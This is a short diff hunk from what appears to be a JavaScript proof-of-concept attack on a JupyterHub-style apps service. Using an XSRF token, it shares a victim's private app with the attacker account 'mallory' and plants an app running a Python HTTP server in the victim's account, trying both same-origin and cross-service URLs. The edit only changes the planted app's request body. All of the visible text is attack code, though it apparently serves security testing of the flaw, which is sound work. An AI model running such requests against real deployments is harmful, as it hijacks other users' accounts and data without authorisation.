@@ -36,7 +36,7 @@
   // 4. Share the victim's private app with mallory, create an app in the victim's account.
   const headers = { "Content-Type": "application/json", "X-XSRFToken": xsrf };
   const share = JSON.stringify({ users: ["mallory"], groups: [] });
-  const app = JSON.stringify({ name: "planted", spec: { framework: "command", display_name: "planted", command: ["{python}", "-m", "http.server", "{port}"] } });
+  const app = JSON.stringify({ framework: "command", display_name: "planted", command: ["{python}", "-m", "http.server", "{port}"] });
   for (const base of ["", svc]) {
     await attempt(`share-${base ? "cross" : "same"}`, `${base}/services/japps/api/apps/${victim}/secret-app/shares`, { method: "POST", headers, body: share });
     await attempt(`create-${base ? "cross" : "same"}`, `${base}/services/japps/api/apps`, { method: "POST", headers, body: app });
